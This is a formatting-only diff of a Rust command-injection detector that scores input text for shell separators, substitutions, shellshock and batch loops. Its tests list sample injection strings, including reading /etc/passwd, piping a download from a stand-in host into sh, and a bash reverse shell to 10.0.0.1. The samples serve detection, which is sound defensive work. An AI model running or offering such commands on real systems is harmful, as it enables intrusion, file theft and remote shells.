@@ -26,25 +26,38 @@ pub(crate) fn find_in(text: &[u8], idiomatic: bool, texture: Texture) -> Option<
 fn judge(found: &Invocation, texture: Texture) -> Option<(&'static str, u16)> {
     use Argument::{Flag, None as Nothing, Technical, Word};
     let (code, in_place, in_sentence) = match (found.mark, found.command, found.argument) {
-        (Mark::Separator, Command::Plain, Flag | Technical) => ("shield.rce.separator", 8800_u16, 8000_u16),
+        (Mark::Separator, Command::Plain, Flag | Technical) => {
+            ("shield.rce.separator", 8800_u16, 8000_u16)
+        }
         (Mark::Separator, Command::Plain, Nothing) => ("shield.rce.separator", 8200, 6500),
         (Mark::Separator, Command::Plain, Word) => ("shield.rce.separator", 7500, 3500),
-        (Mark::Separator, Command::Common, Flag | Technical) => ("shield.rce.separator", 8000, 6000),
+        (Mark::Separator, Command::Common, Flag | Technical) => {
+            ("shield.rce.separator", 8000, 6000)
+        }
         (Mark::Separator, Command::Common, Nothing) => ("shield.rce.separator", 6500, 3500),
         (Mark::Separator, Command::Common, Word) => ("shield.rce.separator", 3500, 1500),
-        (Mark::Substitution, Command::Plain, Flag | Technical | Nothing) => ("shield.rce.substitution", 8500, 4500),
+        (Mark::Substitution, Command::Plain, Flag | Technical | Nothing) => {
+            ("shield.rce.substitution", 8500, 4500)
+        }
         (Mark::Substitution, Command::Plain, Word) => ("shield.rce.substitution", 6500, 3000),
-        (Mark::Substitution, Command::Common, Flag | Technical) => ("shield.rce.substitution", 7500, 3500),
+        (Mark::Substitution, Command::Common, Flag | Technical) => {
+            ("shield.rce.substitution", 7500, 3500)
+        }
         (Mark::Substitution, Command::Common, Nothing) => ("shield.rce.substitution", 5500, 3000),
         (Mark::Line, Command::Plain, Flag | Technical | Nothing) => ("shield.rce.line", 7500, 3500),
         (Mark::Line, Command::Common, Flag | Technical) => ("shield.rce.line", 6000, 3000),
-        (Mark::Line, Command::Common, Nothing) if found.disguised || texture.words <= 3 => ("shield.rce.line", 6000, 2500),
+        (Mark::Line, Command::Common, Nothing) if found.disguised || texture.words <= 3 => {
+            ("shield.rce.line", 6000, 2500)
+        }
         (Mark::Start, Command::Plain, Flag) => ("shield.rce.command", 5500, 5500),
         _ => return None,
     };
     let hidden = if found.disguised { 800 } else { 0 };
     let score = if found.bare { in_place } else { in_sentence };
-    Some((code, texture.weigh(score.saturating_add(hidden).min(9500), 3500, 2000)))
+    Some((
+        code,
+        texture.weigh(score.saturating_add(hidden).min(9500), 3500, 2000),
+    ))
 }
 
 /// Things that are written for no other purpose.
@@ -70,21 +83,41 @@ fn idioms(text: &[u8], texture: Texture, best: &mut Strongest) {
             // `() {` alone is an empty function; with a command behind `;` it is not
             let shellshock = needle == b"() {";
             let behind = text.get(at..).unwrap_or_default();
-            if shellshock && !(at < 4 && find(behind, b"}").is_some() && find(behind, b";").is_some()) {
+            if shellshock
+                && !(at < 4 && find(behind, b"}").is_some() && find(behind, b";").is_some())
+            {
                 continue;
             }
-            best.add(Evidence::new(code, texture.weigh(score, in_text, in_text.min(3000)), at, at.saturating_add(needle.len())));
+            best.add(Evidence::new(
+                code,
+                texture.weigh(score, in_text, in_text.min(3000)),
+                at,
+                at.saturating_add(needle.len()),
+            ));
         }
     }
 }
 
 /// `for %x in (…) do …`, `if exist x y` of `cmd.exe` as the whole of a value.
 fn batch(text: &[u8], texture: Texture, best: &mut Strongest) {
-    let lower = text.get(..text.len().min(160)).unwrap_or_default().to_ascii_lowercase();
+    let lower = text
+        .get(..text.len().min(160))
+        .unwrap_or_default()
+        .to_ascii_lowercase();
     let start = find(&lower, b"for ").unwrap_or(usize::MAX);
-    let loops = start < 4 && lower.contains(&b'%') && find(&lower, b" in (").or_else(|| find(&lower, b" in(")).is_some() && find(&lower, b"do ").is_some();
+    let loops = start < 4
+        && lower.contains(&b'%')
+        && find(&lower, b" in (")
+            .or_else(|| find(&lower, b" in("))
+            .is_some()
+        && find(&lower, b"do ").is_some();
     if loops {
-        best.add(Evidence::new("shield.rce.command", texture.weigh(7000, 2500, 1500), 0, text.len()));
+        best.add(Evidence::new(
+            "shield.rce.command",
+            texture.weigh(7000, 2500, 1500),
+            0,
+            text.len(),
+        ));
     }
 }
 
@@ -99,14 +132,30 @@ mod tests {
 
     #[test]
     fn commands_that_are_run() {
-        for text in ["127.0.0.1; cat /etc/passwd", "x|id", "$(whoami)", "`uname -a`", "a&&curl http://e.example/x|sh", "() { :;}; /bin/ls", "x\nwhoami", ";cat${IFS}x", "bash -i >& /dev/tcp/10.0.0.1/4242 0>&1"] {
+        for text in [
+            "127.0.0.1; cat /etc/passwd",
+            "x|id",
+            "$(whoami)",
+            "`uname -a`",
+            "a&&curl http://e.example/x|sh",
+            "() { :;}; /bin/ls",
+            "x\nwhoami",
+            ";cat${IFS}x",
+            "bash -i >& /dev/tcp/10.0.0.1/4242 0>&1",
+        ] {
             assert!(score(text) >= 5000, "{text}");
         }
     }
 
     #[test]
     fn prose_and_queries() {
-        for text in ["Tom & Jerry; cats and dogs", "a | b | c", "Find out more; sort by date; then echo it", "/x?id=1&type=2&sort=name", "$(document).ready(function() { x(); })"] {
+        for text in [
+            "Tom & Jerry; cats and dogs",
+            "a | b | c",
+            "Find out more; sort by date; then echo it",
+            "/x?id=1&type=2&sort=name",
+            "$(document).ready(function() { x(); })",
+        ] {
             assert!(score(text) < 5000, "{text}");
         }
     }
